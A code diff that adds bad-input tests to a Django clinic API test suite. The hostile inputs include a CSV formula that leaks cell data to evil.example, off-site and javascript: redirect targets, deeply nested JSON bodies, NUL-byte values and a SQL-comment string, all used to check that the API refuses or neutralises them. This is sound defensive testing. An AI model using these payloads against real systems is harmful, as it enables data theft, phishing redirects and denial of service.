@@ -5,19 +5,31 @@ The rows are what breaks Django/PostgreSQL APIs in practice (docs/security.md): 
 (PostgreSQL text cannot hold them), integers beyond bigint, wrong JSON types, unknown fields,
 over-long strings, impossible dates, datetimes without or with impossible UTC offsets, and
 filters in the query string with values they cannot take. They cover patients, appointments,
-toxin sessions, toxin lots and time off; the schema fuzz test
+toxin sessions, toxin lots, plans and time off; the schema fuzz test
 (test_api_schema_fuzz.py) throws generated input at every other operation.
+
+After the table, one small test per bug found once: JSON bodies too deep (a RecursionError, a
+500) or too large, UTC offsets PostgreSQL refuses and far-off years in every date filter, NUL in
+pages' query strings (the audit page's filter), ``next`` leading off the site (the recall close
+action), spreadsheet formulas in the dashboard CSV, and answers the schema did not allow (a
+consent carried over by a merge, a grading without a staff rater).
 """
 
 import copy
 from datetime import datetime, time, timedelta
+from time import perf_counter
 from zoneinfo import ZoneInfo
 
 import pytest
+import schemathesis
+from django.core import signals
+from django.db import close_old_connections
 from django.utils import timezone
 from rest_framework.test import APIClient
 
 from clinic.roles import Role
+from clinic.tokens.services import api_token_issue
+from clinic.wsgi import application
 from tests.factories import AppointmentFactory, UserFactory
 from tests.scheduling.factories import WorkingHoursFactory
 from tests.treatments.factories import ToxinLotFactory
@@ -93,6 +105,16 @@ def _payloads(world) -> dict[str, tuple[str, str, dict]]:
             "post",
             "/api/v1/toxin-lots/",
             {"product": lot.product, "lot_number": "Z1", "expiry_date": "2030-01-31", "vial_units": 100},
+        ),
+        "plan": (
+            "post",
+            "/api/v1/treatment-plans/",
+            {
+                "patient": patient.pk,
+                "goals": "Better smile",
+                "modalities": ["toxin"],
+                "stages": [{"modality": "toxin", "description": "x"}],
+            },
         ),
         "time-off": (
             "post",
@@ -180,6 +202,13 @@ BODY_CASES = [
     ("toxin", "occurred_at", "1580-09-16T19:25:16+01:10", "invalid"),
     ("time-off", "starts_at", "2027-03-02T10:00:00-24:00", "invalid"),
     ("time-off", "ends_at", "2027-03-02", "invalid"),
+    # Offsets Python takes but PostgreSQL refuses (past +-15:59): no offset in use passes +-14:00.
+    ("booking", "start", "2027-03-02T10:00:00+23:59", "invalid"),
+    ("toxin", "occurred_at", "2026-03-01T09:00:00-16:00", "invalid"),
+    ("time-off", "starts_at", "2027-03-02T10:00:00+14:30", "invalid"),
+    # NUL inside free-form JSON (a plan's stages), where no serializer field looks at it.
+    ("plan", "stages.0.description", "a\x00b", "invalid"),
+    ("plan", "stages.0.d\x00", "x", "invalid"),
 ]
 
 
@@ -229,7 +258,7 @@ def test_bad_field_is_400_naming_the_field(api, world, endpoint, path, value, co
     assert _error_at(error["fields"], path), error
 
 
-@pytest.mark.parametrize("endpoint", ["patient", "booking", "toxin", "lot", "time-off"])
+@pytest.mark.parametrize("endpoint", ["patient", "booking", "toxin", "lot", "time-off", "plan"])
 def test_valid_body_of_each_row_is_accepted(api, world, endpoint):
     """The rows above spoil a body that works: their 400s are about the spoilt field."""
     method, url, body = _payloads(world)[endpoint]
@@ -298,6 +327,38 @@ QUERY_CASES = [
     ("/api/v1/availability/", {"limit": "1.5"}, "limit"),
     ("/api/v1/availability/", {"after": "2027-03-02T10:00:00+25:00"}, "after"),
     ("/api/v1/availability/", {"after": "9999-12-31T23:59:59Z"}, "after"),
+    # Datetime filters: offsets PostgreSQL refuses (a 500 before), far-off and impossible years.
+    ("/api/v1/toxin-sessions/", {"occurred_before": "2027-03-02T10:00:00+23:59"}, "occurred_before"),
+    ("/api/v1/toxin-sessions/", {"occurred_before": "2027-03-02T10:00:00+99:00"}, "occurred_before"),
+    ("/api/v1/toxin-sessions/", {"occurred_after": "0001-01-01T00:00:00+01:00"}, "occurred_after"),
+    ("/api/v1/toxin-sessions/", {"occurred_after": "9999-12-31T23:59:59-01:00"}, "occurred_after"),
+    ("/api/v1/toxin-sessions/", {"occurred_after": "0000-01-01T00:00:00Z"}, "occurred_after"),
+    ("/api/v1/toxin-sessions/", {"occurred_after": "10000-01-01T00:00:00Z"}, "occurred_after"),
+    ("/api/v1/surgeries/", {"occurred_before": "2027-03-02T10:00:00-16:00"}, "occurred_before"),
+    ("/api/v1/surgeries/", {"occurred_after": "2027-03-02T10:00:00+01:00:30"}, "occurred_after"),
+    ("/api/v1/consultations/", {"occurred_after": "2027-03-02T10:00:00+15:00"}, "occurred_after"),
+    ("/api/v1/therapy-visits/", {"occurred_before": "0001-01-01T00:00:00+14:00"}, "occurred_before"),
+    ("/api/v1/follow-ups/", {"occurred_before": "2027-03-02T10:00:00+20:00"}, "occurred_before"),
+    ("/api/v1/audit-events/", {"at__gte": "2027-03-02T10:00:00+23:59"}, "at__gte"),
+    ("/api/v1/audit-events/", {"at__lt": "0001-01-01T00:00:00+01:00"}, "at__lt"),
+    ("/api/v1/messages/", {"due_from": "2027-03-02T10:00:00-23:00"}, "due_from"),
+    ("/api/v1/messages/", {"due_to": "9999-12-31T23:59:59-01:00"}, "due_to"),
+    ("/api/v1/recalls/", {"due_from": "0001-01-01"}, "due_from"),
+    ("/api/v1/toxin-lots/", {"usable_on": "9999-12-31"}, "usable_on"),
+    ("/api/v1/appointments/", {"date_to": "0001-01-01"}, "date_to"),
+    ("/api/v1/time-off/", {"date_from": "9999-12-31"}, "date_from"),
+    # Values a filter does not know are refused, not dropped (the list came back unfiltered).
+    ("/api/v1/locations/", {"is_active": "1e-323"}, "is_active"),
+    ("/api/v1/toxin-lots/", {"is_active": "maybe"}, "is_active"),
+    ("/api/v1/patients/", {"page_size": "abc"}, "page_size"),
+    ("/api/v1/patients/", {"page_size": "0"}, "page_size"),
+    ("/api/v1/patients/", {"page_size": "-5"}, "page_size"),
+    # NUL bytes in any query parameter, filter or not (PostgreSQL text cannot hold them).
+    ("/api/v1/audit-events/", {"action": "patient.\x00"}, "action"),
+    ("/api/v1/audit-events/", {"actor": "\x00"}, "actor"),
+    ("/api/v1/patients/", {"search": "jo\x00hn"}, "search"),
+    ("/api/v1/patients/", {"ordering": "\x00"}, "ordering"),
+    ("/api/v1/assessments/", {"instrument": "\x00"}, "instrument"),
 ]
 
 
@@ -335,9 +396,245 @@ def test_a_page_past_the_end_is_404_in_the_error_format(api, world):
     assert body["code"] == "not_found"
 
 
-@pytest.mark.parametrize("search", ["\x00", "jo\x00hn", "%", "_", "'; --", "x" * 5000])
+@pytest.mark.parametrize("search", ["%", "_", "'; --", "x" * 5000])
 def test_patient_search_with_odd_text_never_errors(api, world, search):
     response = api.get("/api/v1/patients/", {"search": search})
     assert response.status_code in (200, 400)
     if response.status_code == 400:
         _assert_error(response, 400)
+
+
+# -- Request bodies: size and depth (clinic/api/parsers.py) ----------------------------------
+
+
+def _post_raw(api, text: str, url="/api/v1/patients/"):
+    return api.post(url, data=text, content_type="application/json")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[" * 100_000 + "]" * 100_000,  # json.loads alone: RecursionError, a 500
+        '{"a":' * 50_000 + "1" + "}" * 50_000,
+        '{"first_name": ' + "[" * 5_000,  # deep and unterminated
+        "[" * 33 + "]" * 33,  # one past the limit
+    ],
+    ids=["arrays-100000", "objects-50000", "unterminated-5000", "arrays-33"],
+)
+def test_deeply_nested_json_is_400_before_it_is_parsed(api, world, text):
+    error = _assert_error(_post_raw(api, text), 400)
+    assert error["code"] == "too_deeply_nested"
+
+
+def test_nesting_up_to_the_limit_is_parsed_and_validated(api, world):
+    _, url, _ = _payloads(world)["patient"]
+    deep = "[" * 31 + "1" + "]" * 31  # 32 with the body's own object
+    error = _assert_error(_post_raw(api, f'{{"first_name": "Ann", "last_name": {deep}}}', url), 400)
+    assert error["code"] == "invalid"
+    assert "last_name" in error["fields"]
+
+
+def test_brackets_inside_strings_do_not_count(api, world):
+    _, url, body = _payloads(world)["patient"]
+    response = api.post(url, {**body, "first_name": 'Ann[[[{{{"\\' + "[" * 40}, format="json")
+    assert response.status_code == 201, response.json()
+
+
+def test_body_over_the_size_limit_is_400(api, world, settings):
+    settings.API_MAX_BODY_BYTES = 2_000
+    _, url, body = _payloads(world)["patient"]
+    response = api.post(url, {**body, "last_name": "x" * 3_000}, format="json")
+    error = _assert_error(response, 400)
+    assert error["code"] == "body_too_large"
+    assert api.post(url, body, format="json").status_code == 201  # a small body still works
+
+
+def test_depth_scan_is_linear_on_hostile_strings():
+    from clinic.api.parsers import json_depth
+
+    # Escaped quotes in an unterminated string: a naive string regex backtracks quadratically.
+    hostile = '"' + '\\"[' * 200_000
+    started = perf_counter()
+    json_depth(hostile)
+    assert perf_counter() - started < 2
+    assert json_depth('{"a": "]]]]\\"[[", "b": [[{}]]}') == 4
+    assert json_depth('"\\\\"[[') == 2  # an escaped backslash ends nothing: the string is over
+
+
+# -- next: same site only (clinic/redirects.py) ------------------------------------------------
+
+
+EVIL = ["https://evil.example/", "//evil.example/", "/\\evil.example/", "javascript:alert(1)"]
+
+
+@pytest.mark.parametrize("target", EVIL)
+def test_recall_close_does_not_redirect_off_site(client, world, target):
+    from scheduling.services import recall_open
+
+    user = UserFactory(username="recalls", roles=[Role.FRONT_DESK.value])
+    recall = recall_open(
+        patient=world["patient"],
+        kind="reinjection",
+        appointment_type_code=world["appointment"].appointment_type.code,
+        anchor_date=timezone.localdate(),
+        earliest_date=timezone.localdate() + timedelta(days=10),
+        due_date=timezone.localdate() + timedelta(days=20),
+        overdue_date=timezone.localdate() + timedelta(days=40),
+        source="bad-input",
+        label="Re-injection",
+        actor=user,
+    )
+    client.force_login(user)
+    response = client.post(f"/recalls/{recall.pk}/close/", {"reason": "moved away", "next": target})
+    assert response.status_code == 302
+    assert response["Location"] == "/recalls/"
+
+
+def test_recall_close_follows_a_same_site_next(client, world):
+    from scheduling.services import recall_open
+
+    user = UserFactory(username="recalls", roles=[Role.FRONT_DESK.value])
+    recall = recall_open(
+        patient=world["patient"],
+        kind="reinjection",
+        appointment_type_code=world["appointment"].appointment_type.code,
+        anchor_date=timezone.localdate(),
+        earliest_date=timezone.localdate() + timedelta(days=10),
+        due_date=timezone.localdate() + timedelta(days=20),
+        overdue_date=timezone.localdate() + timedelta(days=40),
+        source="bad-input",
+        label="Re-injection",
+        actor=user,
+    )
+    client.force_login(user)
+    response = client.post(
+        f"/recalls/{recall.pk}/close/", {"reason": "moved away", "next": "/recalls/?page=2"}
+    )
+    assert response["Location"] == "/recalls/?page=2"
+
+
+def test_appointment_action_does_not_redirect_to_a_backslash_host(client, world):
+    # "/\\evil.example" starts with one slash, yet browsers read it as "//evil.example".
+    appointment = world["appointment"]
+    client.force_login(UserFactory(username="desk", roles=[Role.FRONT_DESK.value]))
+    response = client.post(f"/schedule/appointments/{appointment.pk}/confirm/", {"next": "/\\evil.example/"})
+    assert response.status_code == 302
+    assert response["Location"] == f"/schedule/appointments/{appointment.pk}/"
+
+
+# -- NUL bytes in pages' query strings and forms (clinic.middleware.RefuseNulMiddleware) --------
+
+
+@pytest.mark.parametrize("params", [{"action": "patient.\x00"}, {"actor": "\x00"}, {"patient": "1\x00"}])
+def test_nul_in_the_audit_page_filter_is_400(client, params):
+    # The audit page filters with action__startswith: PostgreSQL refused the NUL (a 500).
+    client.force_login(UserFactory(username="manager", roles=[Role.MANAGER.value]))
+    response = client.get("/clinic/audit/", params)
+    assert response.status_code == 400
+    assert client.get("/clinic/audit/", {"action": "patient."}).status_code == 200
+
+
+def test_nul_in_a_page_query_or_form_is_400(client, world):
+    client.force_login(UserFactory(username="desk", roles=[Role.FRONT_DESK.value]))
+    assert client.get("/patients/", {"q": "jo\x00hn"}).status_code == 400
+    assert client.get("/patients/", {"q\x00": "x"}).status_code == 400
+    appointment = world["appointment"]
+    response = client.post(f"/schedule/appointments/{appointment.pk}/confirm/", {"next": "/\x00"})
+    assert response.status_code == 400
+
+
+# -- CSV exports cannot carry formulas (clinic/spreadsheet.py) -------------------------------------
+
+
+def test_dashboard_csv_neutralises_formulas_but_not_negative_numbers(client, world):
+    import csv
+    import io
+
+    from clinic.spreadsheet import safe_cell
+
+    room = world["appointment"].room
+    room.name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    room.save()
+    client.force_login(UserFactory(username="manager", roles=[Role.MANAGER.value]))
+    response = client.get("/clinical/dashboard/", {"weeks": "4", "format": "csv"})
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    items = {row[1] for row in rows if row[0] == "room_utilisation"}
+    assert "'" + str(room) in items
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    for formula in ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"]:
+        assert safe_cell(formula) == "'" + formula
+    assert safe_cell(-3) == -3  # numbers are values, not formulas
+    assert safe_cell("Room 1") == "Room 1"
+
+
+# -- Answers match the schema (clinic/api/schema.py) ------------------------------------------
+
+
+@pytest.fixture
+def schema_of_api(api):
+    user = UserFactory(username="schema-reader", roles=[r.value for r in Role])
+    headers = {"Authorization": f"Token {api_token_issue(user=user, label='schema check')[1]}"}
+    # In-process requests share the test's transaction (as in test_api_schema_fuzz.py).
+    signals.request_started.disconnect(close_old_connections)
+    signals.request_finished.disconnect(close_old_connections)
+    yield schemathesis.openapi.from_wsgi("/api/schema/", application, headers=headers), headers
+    signals.request_started.connect(close_old_connections)
+    signals.request_finished.connect(close_old_connections)
+
+
+def _answer_matches_schema(schema_and_headers, method, path, **path_parameters):
+    schema, headers = schema_and_headers
+    operation = schema[path][method]
+    response = operation.Case(path_parameters=path_parameters).call(headers=headers)
+    assert response.status_code == 200, response.text[:500]
+    operation.validate_response(response)  # raises, naming the mismatch
+    return response.json()
+
+
+def test_a_consent_carried_over_by_a_merge_matches_the_schema(schema_of_api, world):
+    from tests.patients.factories import ConsentFactory
+
+    ConsentFactory(patient=world["patient"], method="merge")
+    body = _answer_matches_schema(
+        schema_of_api, "GET", "/api/v1/patients/{id}/consents/", id=world["patient"].pk
+    )
+    assert "merge" in [row["method"] for row in body["results"]]
+    # ... but a client cannot send it.
+    schema, _ = schema_of_api
+    request_enum = schema.raw_schema["components"]["schemas"]["ConsentMethodSentEnum"]["enum"]
+    assert "merge" not in request_enum
+
+
+def test_a_patient_reported_assessment_without_a_rater_matches_the_schema(schema_of_api, world):
+    from tests.treatments.factories import SAQ_ITEMS
+    from treatments.services import assessment_record
+
+    assessment = assessment_record(
+        patient=world["patient"],
+        instrument="saq",
+        items=SAQ_ITEMS,
+        assessed_at=timezone.now(),
+        rater_kind="patient",
+    )
+    body = _answer_matches_schema(schema_of_api, "GET", "/api/v1/assessments/{id}/", id=assessment.pk)
+    assert body["rater"] is None
+
+
+@pytest.mark.parametrize(
+    ("method", "path", "body", "field"),
+    [
+        ("patch", "/api/v1/locations/{location}/", {"address": 8.98e270}, "address"),
+        (
+            "post",
+            "/api/v1/patients/",
+            {"first_name": 12, "last_name": "Ng", "date_of_birth": "1980-01-01"},
+            "first_name",
+        ),
+    ],
+)
+def test_a_number_sent_for_a_text_field_is_400_not_stored_as_digits(api, world, method, path, body, field):
+    """DRF would store 8.98e270 as the text "8.98e+270"; the schema says text, so it is refused."""
+    url = path.format(location=world["appointment"].room.location_id)
+    response = getattr(api, method)(url, body, format="json")
+    assert response.status_code == 400
+    assert response.json()["fields"][field] == ["Must be text."]
